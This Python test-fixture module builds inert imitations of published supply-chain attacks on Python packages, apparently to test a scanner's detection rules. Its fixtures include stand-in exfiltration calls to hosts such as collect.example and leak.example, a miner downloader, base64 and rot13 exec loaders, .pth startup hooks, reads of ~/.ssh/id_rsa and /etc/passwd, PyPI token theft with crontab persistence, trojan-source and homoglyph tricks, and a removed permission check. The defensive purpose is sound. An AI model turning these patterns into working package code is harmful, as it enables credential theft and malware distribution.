"""Inert imitations of published attacks on Python projects: the shape of each, without anything that works.

Hosts end in `.example`, commands do nothing, payloads are texts. They are archives to be looked at, and a test makes
sure that nothing of them runs.
"""

# ruff: noqa: E501 -- lines of attacks are as long as they were
from __future__ import annotations

import base64
import struct
from dataclasses import dataclass

from support.releases import ENTRY_POINTS, PACKAGE, TextRelease

INIT = PACKAGE["inert/__init__.py"]
CORE = PACKAGE["inert/core.py"]
assert isinstance(INIT, str)
assert isinstance(CORE, str)

_MARKER = "open('/tmp/inert-marker', 'w').close()"
_HIDDEN = base64.b64encode(f"import os\n{_MARKER}\n".encode() * 12).decode()


@dataclass
class Attack:
    """`rules`: at least one of them must fire (none: found by reading alone); `payload`: paths of what runs or is run."""

    name: str
    release: TextRelease
    rules: tuple[str, ...]
    payload: tuple[str, ...]
    old: TextRelease | None = None


def _attack(name: str, rules: str, payload: str, **changes: object) -> Attack:
    old = changes.pop("old", None)
    assert old is None or isinstance(old, TextRelease)
    return Attack(name, TextRelease("1.1", **changes), tuple(rules.split()), tuple(payload.split()), old)  # type: ignore[arg-type]


def _wav(payload: bytes) -> bytes:
    """A sound whose header is right for fewer bytes than there are."""
    sound = b"\0" * 200
    head = struct.pack(
        "<4sL4s4sLHHLLHH4sL", b"RIFF", 36 + 200, b"WAVE", b"fmt ", 16, 1, 1, 8000, 8000, 1, 8, b"data", 200
    )
    return head + sound + payload


_DOWNLOADER = (
    "import os\nimport subprocess\nimport urllib.request\n\n\ndef safe_run(path):\n    os.chmod(path, 0o770)\n"
    '    subprocess.Popen([path, "-u", "4BHR.inert", "-o", "pool.example:8080"])\n\n\n'
    'urllib.request.urlretrieve("https://release.example/miner", "/tmp/ultra")\nsafe_run("/tmp/ultra")\n'
)
_STEALER = (
    "import base64\nimport os\nimport urllib.request\n\n\ndef send():\n"
    "    data = base64.b64encode(str(dict(os.environ)).encode()).decode()\n"
    '    urllib.request.urlopen("https://collect.example/hacked/" + data)\n\n\nsend()\n'
)
_LETTERS = ", ".join(str(ord(letter)) for letter in "system")

ATTACKS: tuple[Attack, ...] = (
    _attack(
        "downloader-wheel-only", "wheel-only import-process", "inert/downloads.py",
        wheel={"inert/downloads.py": _DOWNLOADER, "inert/__init__.py": INIT + "from inert import downloads\n"},
    ),
    _attack(
        "os-system-in-init", "import-process", "inert/__init__.py",
        both={"inert/__init__.py": INIT + '\nimport os\nos.system("true")\n'},
    ),
    _attack(
        "pth-start", "startup-code", "inert_init.pth",
        wheel={"inert_init.pth": 'import os, subprocess, sys; subprocess.Popen([sys.executable, "-c", "pass"])\n'},
    ),
    _attack(
        "base64-exec", "code-decoded", "inert/core.py",
        both={"inert/core.py": f'import base64\n{CORE}\n\nexec(base64.b64decode("{_HIDDEN}"))\n'},
    ),
    _attack("environment-stealer", "secret-environ import-network", "inert/core.py", both={"inert/core.py": CORE + _STEALER}),
    _attack(
        "bot-token-stealer", "code-decoded host-exfil", "inert/extra.py",
        both={
            "inert/extra.py": "import zlib\nimport base64\n\n\ndef __init_client(token):\n"
            f'    exec(zlib.decompress(base64.b64decode("{_HIDDEN}")), {{"token": token}})\n',
            "inert/__init__.py": INIT + "from inert import extra\n",
        },
    ),
    _attack(
        "unsolicited-release", "made-differently", "inert/core.py",
        both={"inert/core.py": CORE + "\n\ndef later():\n    return add(1, 1)\n"},
        owner="root", mode=0o664, generator="poetry-core 2.0",
    ),
    _attack(
        "unsolicited-with-loader", "import-network code-decoded", "inert/core.py",
        both={
            "inert/core.py": CORE + "\nimport urllib.request\nimport codecs\n\n"
            'exec(codecs.decode(urllib.request.urlopen("https://next.example").read(), "rot13"))\n'
        },
        owner="root",
    ),
    _attack(
        "payload-in-test-file", "data-used-early build-process", "setup.py tests/files/bad-3-corrupt_lzma2.xz",
        sdist={
            "tests/files/bad-3-corrupt_lzma2.xz": b"\xfd7zXZ\0" + bytes(range(256)) * 4,
            "setup.py": "import subprocess\nfrom setuptools import setup\n\n"
            'subprocess.run(["xz", "-dc", "tests/files/bad-3-corrupt_lzma2.xz"])\nsetup()\n',
        },
    ),
    _attack(
        "payload-in-globbed-test-file", "opaque-data build-process", "setup.py tests/files/good-large.lzma",
        sdist={
            "tests/files/good-large.lzma": bytes(range(1, 256)) * 8,
            "setup.py": "import glob\nimport os\nfrom setuptools import setup\n\n"
            'os.popen("cat " + " ".join(glob.glob("tests/files/good-*")))\nsetup()\n',
        },
    ),
    _attack(
        "setup-download", "build-network", "setup.py",
        sdist={
            "setup.py": "import urllib.request\nfrom setuptools import setup\n\n"
            'urllib.request.urlopen("https://setup.example/x").read()\nsetup()\n'
        },
    ),
    _attack("typosquatted-requirement", "requires-lookalike", "{info}/METADATA", requires=("reqeusts>=2",)),
    _attack(
        "url-requirement", "requires-url", "{info}/METADATA", requires=("helper @ https://files.example/helper-1.tar.gz",)
    ),
    _attack(
        "other-language", "foreign-code import-process", "inert/_runtime/start.py inert/_runtime/router_runtime.js",
        both={
            "inert/_runtime/__init__.py": "",
            "inert/_runtime/router_runtime.js": "var a = " + "1;" * 3000,
            "inert/_runtime/start.py": "import subprocess\nimport threading\n\n\ndef go():\n"
            '    subprocess.Popen(["bun", "run", "router_runtime.js"])\n\n\ngo()\n',
            "inert/__init__.py": INIT + "from inert._runtime import start\n",
        },
    ),
    _attack(
        "native-helper", "binary-in-pure secret-file", "inert/triton inert/core.py",
        both={
            "inert/triton": b"\x7fELF\x02\x01\x01" + b"\0" * 400,
            "inert/core.py": CORE + '\n\ndef collect(home):\n    return [home + "/.ssh/id_rsa", "/etc/passwd"]\n',
        },
    ),
    _attack(
        "compiled-payload", "bytecode", "inert/full.pyc",
        both={
            "inert/full.pyc": b"\xa7\r\r\n" + b"\0" * 12 + b"\xe3" * 200,
            "inert/__init__.py": INIT + 'import importlib\n\nimportlib.import_module("inert.full")\n',
        },
    ),
    _attack(
        "padding", "text-padding", "inert/core.py",
        both={"inert/core.py": CORE.replace("import json\n", "import json" + " " * 300 + ";__import__('os').getpid()\n")},
    ),
    _attack(
        "trojan-source", "text-bidi", "inert/core.py",
        both={"inert/core.py": CORE + '\nlevel = "user\u202e \u2066# only an admin\u2069 \u2066"\n'},
    ),
    _attack(
        "homoglyphs", "text-homoglyph", "inert/core.py",
        both={"inert/core.py": CORE + "\n\ndef \u0430dd(one, other):\n    return one\n\n\nv\u0430lue = \u0430dd(1, 2)\n"},
    ),
    _attack(
        "invisible-payload", "text-invisible", "inert/core.py",
        both={"inert/core.py": CORE + '\nHIDDEN = "' + "".join(chr(0xE0100 + n) for n in b"payload") + '"\n'},
    ),
    _attack(
        "payload-in-sound", "opaque-data data-used-early", "inert/core.py inert/ring.wav",
        both={
            "inert/ring.wav": _wav(bytes(range(256)) * 3),
            "inert/core.py": CORE + "\n\ndef ring():\n"
            '    with open("inert/ring.wav", "rb") as file:\n        return file.read()[244:]\n',
        },
    ),
    _attack(
        "command-jacking", "command-shadow", "inert/cli.py {info}/entry_points.txt",
        entry_points=ENTRY_POINTS + "git = inert.cli:main\n",
        both={"inert/cli.py": PACKAGE["inert/cli.py"] + "\n\ndef main2():\n    return main()\n"},  # type: ignore[operator]
    ),
    _attack(
        "pytest-plugin", "plugin-new", "inert/plugin.py {info}/entry_points.txt",
        entry_points=ENTRY_POINTS + "\n[pytest11]\ninert = inert.plugin\n",
        both={"inert/plugin.py": "import os\n\n\ndef pytest_configure(config):\n    os.getcwd()\n"},
    ),
    _attack(
        "names-from-numbers", "code-hidden-name", "inert/core.py",
        both={"inert/core.py": CORE + f'\nimport os\n\ngetattr(os, bytes([{_LETTERS}]).decode())("true")\n'},
    ),
    _attack(
        "names-by-map", "code-hidden-name", "inert/core.py",
        both={
            "inert/core.py": CORE + f'\nname = "".join(map(chr, [{_LETTERS}]))\n'
            "__builtins__[name[:0] + 'getattr'](json, 'dumps')\n"
        },
    ),
    _attack(
        "dns-exfiltration", "import-network", "inert/core.py",
        both={
            "inert/core.py": CORE + "\nimport getpass\nimport socket\n\n"
            'socket.gethostbyname(getpass.getuser() + ".leak.example")\n'
        },
    ),
    _attack(
        "sdist-only", "build-process build-cmdclass", "setup.py",
        sdist={
            "setup.py": "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\n\n"
            'class Install(install):\n    def run(self):\n        os.system("true")\n\n\n'
            'setup(cmdclass={"install": Install})\n'
        },
    ),
    _attack("start-file", "startup-code", "inert.start", wheel={"inert.start": "inert.core:text\n"}),
    _attack(
        "pth-in-data", "startup-code", "inert-1.1.data/data/lib/python3.11/site-packages/x.pth",
        wheel={"inert-1.1.data/data/lib/python3.11/site-packages/x.pth": "import inert.extra\n"},
    ),
    _attack(
        "shadowed-top-level", "top-level-new", "yaml/__init__.py",
        both={"yaml/__init__.py": "from inert.core import text as dump\n"},
    ),
    _attack(
        "in-tree-backend", "backend-in-tree", "tools/backend.py pyproject.toml",
        sdist={
            "tools/backend.py": "import sys\nfrom setuptools.build_meta import *\n",
            "pyproject.toml": '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "backend"\n'
            'backend-path = ["tools"]\n',
        },
    ),
    _attack(
        "pickle-at-import", "import-deserialise opaque-data", "inert/core.py inert/model.pkl",
        both={
            "inert/model.pkl": b"\x80\x04\x95" + bytes(range(256)),
            "inert/core.py": CORE + '\nimport pickle\n\nmodel = pickle.load(open("inert/model.pkl", "rb"))\n',
        },
    ),
    _attack(
        "worm", "secret-variable secret-file persistence", "inert/extra.py",
        both={
            "inert/extra.py": "import os\nimport subprocess\n\n\ndef spread():\n"
            '    token = os.environ.get("PYPI_TOKEN") or open(os.path.expanduser("~/.pypirc")).read()\n'
            '    subprocess.run(["crontab", "-l"])\n    return token\n',
            "inert/__init__.py": INIT + "from inert.extra import spread\n",
        },
    ),
    _attack(
        "dropped-check", "", "inert/core.py",
        old=TextRelease(
            "1.0",
            both={"inert/core.py": CORE + "\n\ndef login(user):\n    if not user.is_admin:\n        raise PermissionError\n    return user\n"},
        ),
        both={"inert/core.py": CORE + "\n\ndef login(user):\n    return user\n"},
    ),
)  # fmt: skip
